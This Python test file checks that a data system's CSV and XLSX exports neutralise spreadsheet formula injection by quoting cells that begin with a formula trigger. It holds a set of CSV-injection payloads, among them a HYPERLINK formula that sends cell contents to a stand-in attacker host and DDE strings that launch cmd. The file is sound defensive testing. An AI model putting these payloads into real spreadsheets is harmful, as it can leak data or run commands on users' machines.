"""CSV injection: a cell that would run as a formula in Excel is written behind a single quote, in every
CSV the system writes, and comes back unchanged when the file is imported again."""

from __future__ import annotations

from pathlib import Path

import polars as pl
import pytest

from tests.ingest.conftest import Rows, write_folder
from zengshou import frames
from zengshou.ingest import export, load, read

pytestmark = pytest.mark.django_db

#: What an attacker types into a free-text field, one per OWASP trigger character.
PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "quoted": "'=already quoted",
}


def _cells(path: Path) -> pl.DataFrame:
    """The cells exactly as the file holds them (no neutralisation undone)."""
    return pl.read_csv(path, infer_schema=False)


def test_every_formula_trigger_is_written_behind_a_quote_and_plain_text_is_untouched() -> None:
    frame = pl.DataFrame({"文本": [*PAYLOADS.values(), "马某", "a=b", None], "金额": [-12.5] * 10})
    text = frames.csv_bytes(frame).decode("utf-8-sig")
    cells = pl.read_csv(text.encode(), infer_schema=False)
    assert cells["文本"].to_list()[:7] == ["'" + v for v in PAYLOADS.values()]
    assert cells["文本"].to_list()[7:] == ["马某", "a=b", None]
    assert cells["金额"].to_list() == ["-12.5"] * 10  # a negative number stays a number
    back = cells.with_columns(frames.restore_neutralised("文本"))
    assert back["文本"].to_list() == frame["文本"].to_list()


def test_an_export_neutralises_text_cells_not_numbers_and_imports_back_to_the_same_values(
    rows: Rows, tmp_path: Path
) -> None:
    rows["村"][0]["村名"] = PAYLOADS["hyperlink"]
    rows["村"][1]["乡镇名"] = PAYLOADS["at"]
    rows["帮扶干部"][0]["工作单位"] = PAYLOADS["dde"]
    rows["帮扶干部"][1]["工作单位"] = PAYLOADS["quoted"]
    rows["帮扶干部"][1]["姓名"] = PAYLOADS["minus"]
    source = read(write_folder(tmp_path / "in", rows))
    assert source.errors == []
    load(tmp_path / "in")
    export(tmp_path / "a", "csv", with_personal_data=True)

    villages = _cells(tmp_path / "a" / "村.csv")
    assert "'" + PAYLOADS["hyperlink"] in villages["村名"].to_list()
    assert "'" + PAYLOADS["at"] in villages["乡镇名"].to_list()
    cadres = _cells(tmp_path / "a" / "帮扶干部.csv")
    # a clerk's own CSV cell '=… is read as Excel reads it (=… as text), and so written back
    assert cadres["工作单位"].to_list() == ["'" + PAYLOADS["dde"], "'=already quoted"]
    assert cadres["姓名"][1] == "'" + PAYLOADS["minus"]
    income = _cells(tmp_path / "a" / "收入.csv")
    assert income["工资性收入"].to_list()[0] == "36000.00"  # numbers are never quoted
    raw = b"".join(p.read_bytes() for p in (tmp_path / "a").glob("*.csv")).decode("utf-8-sig")
    assert not any(
        line.startswith(("=", "+", "@")) or ",=" in line or ",+" in line for line in raw.splitlines()
    )

    again = read(tmp_path / "a")
    assert again.errors == []
    for key in ("villages", "cadres", "income"):
        table = getattr(source.population, key)
        assert (
            again.population.table(getattr(frames.ix, key.upper()))
            .sort(table.columns[0])
            .equals(table.sort(table.columns[0]))
        ), key


def test_batch_result_files_neutralise_a_household_key_that_looks_like_a_formula(tmp_path: Path) -> None:
    from tests.income.build import Builder
    from zengshou.pipeline import run_batch, write_files

    b = Builder()
    b.household("=1+1", 2, {2023: 20000, 2024: 12000})
    b.household("H2", 3, {2023: 60000, 2024: 66000})
    write_files(run_batch(b.population(), 2024), tmp_path)
    tiers = _cells(tmp_path / "分层结果.csv")
    assert sorted(tiers["户编号"].to_list()) == ["'=1+1", "H2"]
    assert all(v is None or not v.startswith("'") for v in tiers["人均纯收入"].to_list())


def test_no_module_writes_a_csv_file_except_through_the_one_neutralising_writer() -> None:
    """A new CSV writer must use ``frames.csv_bytes``; the database COPY streams are not files anyone opens."""
    import re

    import zengshou

    writer = re.compile(r"(?<!frames)\.write_csv\(|csv\.writer\(|DictWriter\(")

    allowed = {"frames.py", "registry/bulk.py"}
    root = Path(zengshou.__file__).parent
    offenders = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if str(p.relative_to(root)) not in allowed and writer.search(p.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_xlsx_export_writes_formula_text_as_a_string_cell_not_a_formula(rows: Rows, tmp_path: Path) -> None:
    import openpyxl

    rows["帮扶干部"][0]["工作单位"] = PAYLOADS["hyperlink"]
    load(write_folder(tmp_path / "in", rows))
    export(tmp_path / "x.xlsx", "xlsx", with_personal_data=True)
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["帮扶干部"]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == PAYLOADS["hyperlink"])
    assert cell.data_type == "s"
    assert read(tmp_path / "x.xlsx").population.cadres["unit"].to_list()[0] == PAYLOADS["hyperlink"]
